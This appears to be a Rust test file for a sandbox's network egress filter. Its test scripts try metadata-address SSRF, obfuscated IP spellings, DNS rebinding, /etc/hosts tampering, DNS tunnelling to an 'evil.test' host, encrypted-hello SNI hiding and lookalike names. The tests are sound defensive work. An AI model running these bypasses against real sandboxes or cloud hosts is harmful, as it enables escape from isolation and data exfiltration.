//! Ways to get somewhere, or to tell somebody something, without being allowed to.

use belljar_types::IsolationClass;

use crate::internet::{ALLOWED, EVIL, RESOLVER};
use crate::scene::{EVERYTHING, POLICY, Scene};
use crate::unguarded::Unguarded;

/// Each script gets nowhere under the policy and leaves no trace outside; where nothing is forbidden it gets through.
async fn blocked(class: IsolationClass, policy: &str, scripts: &[&str]) {
    let scene = Scene::open(class, policy).await;
    for script in scripts {
        assert!(!scene.gets_through(script).await, "{class}: got through: {script}");
        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{class}: {script}");
    }
    scene.close().await;
    let control = Scene::control(class).await;
    for script in scripts {
        assert!(control.gets_through(script).await, "{class}: the control did not get through: {script}");
        assert!(control.internet.sees(|_| true).await, "{class}: the control left no trace: {script}");
    }
    control.close().await;
}

pub(crate) async fn what_is_allowed_works(class: IsolationClass) {
    let scene = Scene::open(class, POLICY).await;
    assert!(scene.gets_through("get('allowed.test')").await);
    assert!(scene.gets_through("get('ALLOWED.test.', host='allowed.test')").await);
    assert!(
        scene
            .gets_through(
                "s = tls('allowed.test', 443, 'allowed.test'); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); recv_some(s)"
            )
            .await
    );
    assert!(scene.gets_through("get('a.wild.test')").await);
    let curl = scene
        .python("import subprocess; print(subprocess.run(['curl', '-sk', 'https://allowed.test/'], capture_output=True, text=True).stdout)")
        .await;
    assert!(curl.text().contains("hello from 203.0.113.10:443"), "{curl}");
    let seen = scene.internet.seen().join("\n");
    assert!(seen.contains("dns allowed.test") && seen.contains("http 203.0.113.10:80 GET / HTTP/1.1 | host: allowed.test"), "{seen}");
    let traffic = scene.egress().traffic(scene.id()).unwrap();
    assert!(traffic.sent > 0 && traffic.received > 0 && traffic.connections >= 5, "{traffic:?}");
    scene.close().await;
}

pub(crate) async fn addresses_that_are_not_allowed_are_refused(class: IsolationClass) {
    let scripts = [22, 80, 443, 8443].map(|port| {
        format!("s = socket.create_connection(('{EVIL}', {port})); s.settimeout(1)\ntry: s.recv(1)\nexcept TimeoutError: pass")
    });
    blocked(class, POLICY, &scripts.each_ref().map(String::as_str)).await;
}

pub(crate) async fn private_addresses_stay_closed_whatever_the_rules_say(class: IsolationClass) {
    // The policy lists them all.
    blocked(class, POLICY, &["get('169.254.169.254')", "get('10.1.2.3')"]).await;
    // The node's own services, at its public address and at its loopback, where nothing is denied.
    let loopback = "http(gateway(), 3128, b'CONNECT 127.0.0.1:80 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')";
    blocked(class, EVERYTHING, &["get('203.0.113.1')", loopback]).await;
}

pub(crate) async fn spellings_of_addresses_lead_nowhere(class: IsolationClass) {
    let scene = Scene::open(class, POLICY).await;
    let proxy = |target: &str| format!("http(gateway(), 3128, b'CONNECT {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')");
    for target in [
        "0.0.0.0:80",
        "0:80",
        "127.1:80",
        "0x7f.1:80",
        "2130706433:80",
        "[::ffff:169.254.169.254]:80",
        "[::1]:80",
        "169.254.169.254:80",
        "0xa9fea9fe:80",
        "169.254.43518:80",
        "localhost:80",
    ] {
        assert!(!scene.gets_through(&proxy(target)).await, "{target}");
    }
    assert_eq!(scene.internet.seen(), Vec::<String>::new());
    assert!(scene.gets_through(&proxy("allowed.test:443")).await, "the entrance works");
    scene.close().await;
    let control = Scene::control(class).await;
    assert!(control.gets_through(&proxy("169.254.169.254:80")).await);
    assert!(control.internet.sees(|_| true).await);
    control.close().await;
}

pub(crate) async fn a_name_that_leads_to_a_private_address_is_not_dialled(class: IsolationClass) {
    let mut scene = Scene::open(class, POLICY).await;
    assert!(!scene.gets_through("get('rebind.test')").await);
    assert_eq!(scene.internet.seen(), ["dns rebind.test"], "it was resolved and not dialled");
    assert!(scene.gets_through("get('mixed.test')").await, "one of its addresses is public");
    let seen = scene.internet.seen();
    assert!(seen.iter().all(|line| !line.contains("169.254") && !line.contains("10.1.2.3")), "{seen:?}");
    assert!(scene.gets_through("get('turning.test')").await, "it is public when it is asked for first");
    assert!(!scene.gets_through("get('turning.test')").await, "and private the next time");
    let seen = scene.internet.seen();
    assert_eq!(seen.iter().filter(|line| *line == "dns turning.test").count(), 2, "{seen:?}");
    assert!(seen.iter().all(|line| !line.contains("169.254")), "{seen:?}");
    let mut told = Vec::new();
    while let Ok(event) = scene.events.try_recv() {
        told.extend((event.kind == belljar_egress::EventKind::Unreachable).then_some(event.reason));
    }
    assert!(told.iter().filter(|reason| reason.contains("169.254.169.254")).count() >= 2, "somebody was told: {told:?}");
    scene.close().await;
    let control = Scene::control(class).await;
    assert!(control.gets_through("get('rebind.test')").await);
    assert!(control.internet.sees(|line| line.contains("tcp 169.254.169.254:80")).await);
    assert!(control.gets_through("get('turning.test'); get('turning.test')").await);
    assert!(control.internet.sees(|line| line.contains("tcp 169.254.169.254:80")).await);
    control.close().await;
}

pub(crate) async fn a_name_put_into_hosts_is_an_address(class: IsolationClass) {
    let script = format!(
        "import subprocess; subprocess.run(['sudo', 'sh', '-c', 'echo {EVIL} allowed.test >> /etc/hosts'], check=True); get('allowed.test')"
    );
    blocked(class, POLICY, &[&script]).await;
}

pub(crate) async fn questions_for_names_stay_on_the_host(class: IsolationClass) {
    let scene = Scene::open(class, POLICY).await;
    for (script, why) in [
        ("assert question('allowed.test') == (0, 1)", "an allowed name has an address"),
        ("assert question('allowed.test', 28) == (0, 0)", "and none of version 6"),
        ("assert question('allowed.test', 65) == (0, 0)", "and no keys to hide a name with"),
        ("assert all(question('allowed.test', kind)[0] == 5 for kind in (16, 10, 255, 15, 33))", "nothing else can be asked"),
        ("assert question('evil.test')[0] == 3", "another name is not there"),
        (
            "assert question('evil.test', to='8.8.8.8')[0] == 3 and question('evil.test', to='8.8.8.8', tcp=True)[0] == 3",
            "whoever is asked",
        ),
        ("assert question('allowed.test', to='8.8.8.8', tcp=True) == (0, 1)", "by stream as well"),
    ] {
        assert!(scene.gets_through(script).await, "{why}");
    }
    let many = if std::env::var_os("BELLJAR_FULL").is_some() { 10_000 } else { 2_000 };
    let tunnel = format!("for n in range({many}): assert question('secret%d.evil.test' % n)[0] == 3");
    assert!(scene.gets_through(&tunnel).await, "a tunnel of names leads nowhere");
    assert_eq!(scene.internet.seen(), Vec::<String>::new(), "no question left the host");
    scene.close().await;
    let control = Scene::control(class).await;
    assert!(control.gets_through("get('secret7.wild.test')").await);
    assert!(
        control.internet.seen().contains(&"dns secret7.wild.test".to_owned()),
        "where names are allowed they are asked for, once a connection is made"
    );
    control.close().await;
    // Names over TLS and over HTTPS go wherever the policy lets anything go, and nowhere else.
    let over_tls = format!("http('{RESOLVER}', 853, b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')");
    let over_https = |to: &str, name: &str| {
        format!("s = tls('{to}', 443, '{name}'); s.sendall(b'GET /dns-query HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n'); recv_some(s)")
    };
    blocked(class, POLICY, &[&over_tls, &over_https("evil.test", "evil.test"), &over_https(RESOLVER, "evil.test")]).await;
    let scene = Scene::open(class, POLICY).await;
    assert!(scene.gets_through(&over_https("allowed.test", "allowed.test")).await);
    assert!(scene.internet.sees(|line| line.contains("/dns-query")).await);
    scene.close().await;
}

pub(crate) async fn names_below_a_wildcard_are_counted(class: IsolationClass) {
    let mut scene = Scene::open(class, POLICY).await;
    let script = "codes = [question('n%d.wild.test' % n)[0] for n in range(1000)]\nassert codes.count(0) == 60, codes.count(0)";
    assert!(scene.gets_through(script).await);
    let mut alarmed = false;
    while let Ok(event) = scene.events.try_recv() {
        alarmed |= event.kind == belljar_egress::EventKind::TooManyNames;
    }
    assert!(alarmed, "somebody was told");
    assert_eq!(scene.internet.seen(), Vec::<String>::new());
    scene.close().await;
    let more = POLICY.replace(r#""network":{"#, r#""network":{"limits":{"names_per_minute":1000},"#);
    let control = Scene::open(class, &more).await;
    assert!(control.gets_through(&script.replace("== 60", "== 1000")).await, "where more are allowed there are more");
    control.close().await;
}

pub(crate) async fn only_tcp_gets_out(class: IsolationClass) {
    let scene = Scene::open(class, EVERYTHING).await;
    let datagram = |port: u16| {
        format!("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5); s.sendto(b'x', ('{ALLOWED}', {port})); s.recv(1)")
    };
    for script in [
        datagram(443),
        datagram(123),
        format!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(0.5); s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('{ALLOWED}', 0)); s.recv(1)"
        ),
        format!("s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47); s.settimeout(0.5); s.sendto(b'x', ('{ALLOWED}', 0)); s.recv(1)"),
        "socket.create_connection(('2001:db8::1', 80))".to_owned(),
        "socket.create_connection(('fe80::1%eth0', 80))".to_owned(),
    ] {
        assert!(!scene.gets_through(&script).await, "{class}: {script}");
        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{class}: {script}");
    }
    // What root inside cannot even make is sent as frames in `frames.rs`, with its control.
    let bare = Unguarded::begin(&scene).await;
    for port in [443, 123] {
        assert!(scene.gets_through(&datagram(port)).await, "{class}: the control: {port}");
        assert_eq!(scene.internet.seen(), [format!("udp {port}")], "{class}");
    }
    drop(bare);
    assert!(!scene.gets_through(&datagram(123)).await, "{class}: the rules are there again");
    scene.close().await;
}

pub(crate) async fn tls_must_ask_for_the_name_it_is_for(class: IsolationClass) {
    let speak = "; s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); recv_some(s)";
    let scene = Scene::open(class, POLICY).await;
    let scripts = [
        "s = tls('allowed.test', 443, None)",
        "s = tls('allowed.test', 443, 'evil.test')",
        "s = tls('allowed.test', 443, 'a.wild.test')",
        "s = socket.create_connection(('allowed.test', 443))",
    ];
    for script in scripts {
        assert!(!scene.gets_through(&format!("{script}{speak}")).await, "{script}");
        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{script}");
    }
    scene.close().await;
    // The same by port only, where nobody reads the name.
    let raw = POLICY.replace(r#""ports":[80,443]}"#, r#""ports":[443],"scheme":"raw"}"#);
    let control = Scene::open(class, &raw).await;
    for script in &scripts[..3] {
        assert!(control.gets_through(&format!("{script}{speak}")).await, "{class}: the control: {script}");
    }
    assert!(control.internet.sees(|line| line.ends_with(" evil.test")).await);
    // The server knows what is no TLS, and says so.
    assert!(control.gets_through(&format!("{}{speak}", scripts[3])).await, "{class}: the control: plain bytes");
    assert!(control.internet.sees(|line| line.starts_with("tcp ")).await);
    control.close().await;
}

/// Takes a hello of the library, and sends it in pieces.
const HELLO: &str = r"
def hello(name):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    o = c.wrap_bio(incoming, outgoing, server_hostname=name)
    try: o.do_handshake()
    except ssl.SSLWantReadError: pass
    return outgoing.read()
s = socket.create_connection(('allowed.test', 443)); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
h = hello('allowed.test')
";

pub(crate) async fn a_hello_is_read_whole(class: IsolationClass) {
    let scene = Scene::open(class, POLICY).await;
    let records = "body = h[5:]; parts = [body[i:i+50] for i in range(0, len(body), 50)]\ns.sendall(b''.join(b'\\x16\\x03\\x01' + struct.pack('>H', len(p)) + p for p in parts)); assert recv_some(s)[0] == 22";
    let segments = "for b in h[:60]:\n  s.sendall(bytes([b])); time.sleep(0.002)\ns.sendall(h[60:]); assert recv_some(s)[0] == 22";
    for good in [records, segments] {
        assert!(scene.gets_through(&format!("{HELLO}{good}")).await, "{good}");
    }
    scene.internet.seen();
    let long = "s.sendall(b'\\x16\\x03\\x01\\x40\\x00\\x01\\x02\\x00\\x00' + b'x' * 16380); recv_some(s)";
    let unfinished = "s.sendall(h[:-1]); recv_some(s)";
    let hidden = "ext = b'\\xfe\\x0d\\x00\\x01\\x00'; b = h[5:]; n = 4 + 2 + 32; n += 1 + b[n]; n += 2 + struct.unpack('>H', b[n:n+2])[0]; n += 1 + b[n]\ne = struct.unpack('>H', b[n:n+2])[0]; body = b[4:n] + struct.pack('>H', e + len(ext)) + b[n+2:] + ext\nm = b'\\x01' + struct.pack('>I', len(body))[1:] + body; s.sendall(b'\\x16\\x03\\x01' + struct.pack('>H', len(m)) + m); recv_some(s)";
    // The control: the same with another extension that nobody knows.
    let grease = hidden.replace("\\xfe\\x0d", "\\xfa\\xfa");
    assert!(
        grease != hidden && scene.gets_through(&format!("{HELLO}{grease}; assert s")).await,
        "{class}: only what hides a name is refused"
    );
    scene.internet.seen();
    for bad in [long, unfinished, hidden] {
        assert!(!scene.gets_through(&format!("{HELLO}{bad}")).await, "{bad}");
        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{bad}");
    }
    scene.close().await;
    let raw = POLICY.replace(r#""ports":[80,443]}"#, r#""ports":[443],"scheme":"raw"}"#);
    let control = Scene::open(class, &raw).await;
    for bad in [long, unfinished, hidden] {
        control.gets_through(&format!("{HELLO}{}", bad.replace("recv_some(s)", "time.sleep(0.3)"))).await;
        assert!(control.internet.sees(|line| line == "tcp 203.0.113.10:443").await, "the control: it got there: {bad}");
    }
    control.close().await;
    // Where TLS is read, what is hidden is not used: the name in the open is.
    let read = POLICY.replace(r#""ports":[80,443]}"#, r#""ports":[443],"inspect":true}"#);
    let reading = Scene::open(class, &read).await;
    assert!(reading.gets_through(&format!("{HELLO}{hidden}; assert s")).await, "{class}: it is answered by who reads");
    assert_eq!(reading.internet.seen(), Vec::<String>::new(), "{class}: and nobody else hears of it");
    reading.close().await;
}

pub(crate) async fn names_that_look_alike_lead_elsewhere(class: IsolationClass) {
    let others =
        ["evilallowed.test", "allowed.test.evil.test", "wild.test", "awild.test", "allowed\u{3002}evil.test", "\u{430}llowed.test"]
            .map(|name| format!("get('{name}', host='{name}'.encode('idna').decode())"));
    blocked(class, POLICY, &others.each_ref().map(String::as_str)).await;
    let scene = Scene::open(class, POLICY).await;
    for odd in
        ["question('allowed.test@evil.test')[0] and stopped('no such name')", "question('allowed test')[0] and stopped('no such name')"]
    {
        assert!(!scene.gets_through(odd).await, "{class}: {odd}");
        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{class}: {odd}");
    }
    scene.close().await;
}
